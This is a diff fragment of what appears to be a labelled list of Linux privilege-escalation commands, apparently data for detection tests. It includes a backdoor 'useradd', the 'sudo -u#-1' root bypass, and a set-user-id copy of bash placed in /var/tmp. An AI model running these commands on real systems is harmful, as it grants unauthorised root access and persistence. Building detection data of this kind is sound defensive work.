@@ -28,7 +28,6 @@ useradd -p x eve
 sudo -u#-1 id
 ## Shell with the set-user-id bit
 #also File in a scratch folder made executable by hand
-#also Set-user-id bit set in a scratch folder
 cp /bin/bash /var/tmp/bash; chmod 4755 /var/tmp/bash
 ## Capability given to a file in a scratch folder
 #also Set-user-id bit or capability given to a file
